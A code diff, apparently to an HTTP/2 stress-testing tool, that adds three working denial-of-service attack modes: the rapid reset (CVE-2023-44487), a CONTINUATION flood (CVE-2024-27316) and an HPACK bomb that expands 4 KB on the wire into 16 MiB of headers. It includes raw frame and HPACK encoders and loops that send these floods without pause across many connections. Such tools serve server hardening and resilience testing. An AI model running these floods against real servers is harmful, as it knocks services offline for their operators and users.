@@ -15,6 +15,14 @@ Attacks:
                   without pause.
   ping            PING frames without pause.
   settings        SETTINGS frames without pause.
+  rapid_reset     the plain rapid reset (CVE-2023-44487): open a call and
+                  reset it in the same write, 100 at a time, without pause.
+  continuation    a HEADERS frame without END_HEADERS, then CONTINUATION
+                  frames of 1 KiB of new header fields, without end
+                  (the CONTINUATION flood, CVE-2024-27316 and kin).
+  hpack_bomb      a 4 KiB header value put in the HPACK table once, then
+                  calls whose header blocks name it 4,000 times each (16 MiB
+                  of headers from 4 KB on the wire).
 
 With --connect TARGET each connection is a CONNECT tunnel to TARGET through
 the proxy port, and HTTP/2 runs inside it.
@@ -134,6 +142,85 @@ def frame(kind, flags, stream, payload):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
+def hpack_int(value, prefix_bits, first=0):
+    """An HPACK integer with a `prefix_bits`-bit prefix, the prefix's
+    other bits set from `first`."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_literal(name, value, indexed=False):
+    """A literal header field with a new name: with incremental indexing
+    (into the dynamic table) or without indexing."""
+    head = b"\x40" if indexed else b"\x00"
+    return head + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
+
+
+def request_block(c):
+    """The usual request headers, as literals (no table state needed)."""
+    return b"".join(hpack_literal(k.encode(), v.encode()) for k, v in c.headers())
+
+
+def read_goaway(c):
+    """Reads what came back without feeding the h2 state (raw frames have
+    put it out of step); notes a GOAWAY's error code."""
+    try:
+        while True:
+            data = c.sock.recv(65536)
+            if not data:
+                c.closed = True
+                break
+            at = data.find(b"\x07\x00\x00\x00\x00\x00")
+            if c.goaway is None and at >= 3 and len(data) >= at + 14:
+                c.goaway = struct.unpack(">I", data[at + 10 : at + 14])[0]
+    except BlockingIOError:
+        pass
+    except OSError:
+        c.closed = True
+
+
+def run_header_attack(args, conns, live, report, deadline):
+    """The CONTINUATION flood and the HPACK bomb, written as raw frames on
+    fresh stream ids (odd, rising) after the h2 package's preface."""
+    pad = hpack_literal(b"x-pad", b"a" * 100) * 10
+    big = b"b" * 4000
+    while time.monotonic() < deadline:
+        for i in range(len(conns)):
+            c = live(i)
+            # Per connection: the next stream id, and whether its first
+            # block was sent.
+            sid = getattr(c, "next_sid", 1)
+            primed = getattr(c, "primed", False)
+            if args.attack == "continuation":
+                if not primed:
+                    c.send_raw(frame(0x1, 0x0, sid, request_block(c)))
+                    report["streams"] += 1
+                c.send_raw(frame(0x9, 0x0, sid, pad) * 64)
+                if not c.closed:
+                    report["frames"] += 64
+            else:
+                if not primed:
+                    block = request_block(c) + hpack_literal(b"x-big", big, indexed=True)
+                else:
+                    # Index 62: the newest entry of the dynamic table.
+                    block = request_block(c) + b"\xbe" * 4000
+                c.send_raw(frame(0x1, 0x5, sid, block))
+                c.next_sid = sid + 2
+                if not c.closed:
+                    report["streams"] += 1
+                    report["frames"] += 1
+            c.primed = True
+            read_goaway(c)
+
+
 def run(args):
     deadline = time.monotonic() + args.seconds
     report = {"attack": args.attack, "connections": 0, "streams": 0, "resets": 0, "frames": 0, "goaway": {}}
@@ -188,6 +275,23 @@ def run(args):
                             pass  # already closed: answered in time
                     c.flush()
                     c.pump()
+        elif args.attack == "rapid_reset":
+            while time.monotonic() < deadline:
+                for i in range(len(conns)):
+                    c = live(i)
+                    c.pump()
+                    for _ in range(100):
+                        try:
+                            sid = c.h2.get_next_available_stream_id()
+                            c.h2.send_headers(sid, c.headers())
+                            c.h2.reset_stream(sid, error_code=8)
+                        except h2.exceptions.ProtocolError:
+                            break
+                        report["streams"] += 1
+                        report["resets"] += 1
+                    c.flush()
+        elif args.attack in ("continuation", "hpack_bomb"):
+            run_header_attack(args, conns, live, report, deadline)
         else:
             # Frame floods, written raw: the h2 package would refuse to
             # send some of them.
